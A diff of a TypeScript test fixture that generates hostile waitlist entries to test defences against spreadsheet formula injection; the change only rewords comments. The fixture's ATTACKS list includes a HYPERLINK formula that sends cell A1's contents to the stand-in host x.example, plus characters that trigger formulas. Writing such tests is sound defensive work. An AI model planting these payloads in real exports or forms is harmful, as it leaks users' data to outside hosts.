@@ -3,7 +3,7 @@ import { toVisibleLine } from '#shared/contract/text.ts';
 import type { WaitlistRow } from '../../lambdas/store/row.ts';
 import { personRow } from '../infra/operator/people-rows.ts';
 
-/** What somebody would type into a form who wants a spreadsheet to run it. */
+/** Inputs with which an attacker makes a spreadsheet run a formula. */
 const ATTACKS = [
   '=1+1',
   '=HYPERLINK("https://x.example/?"&A1;"Zürich")',
@@ -27,7 +27,7 @@ const ATTACKS = [
 const SIGNS = ['=', '+', '-', '@', '"', "'", ',', ';', ' ', '1', 'ü'];
 const RANDOM = 400;
 
-/** People whose texts are attacks, and others of random signs, which are the same in every run. */
+/** People whose texts are attacks, and others of random characters, the same in every run. */
 export function hostilePeople(): readonly WaitlistRow[] {
   const random = fc.sample(
     fc.string({ unit: fc.constantFrom(...SIGNS), minLength: 1, maxLength: 12 }),
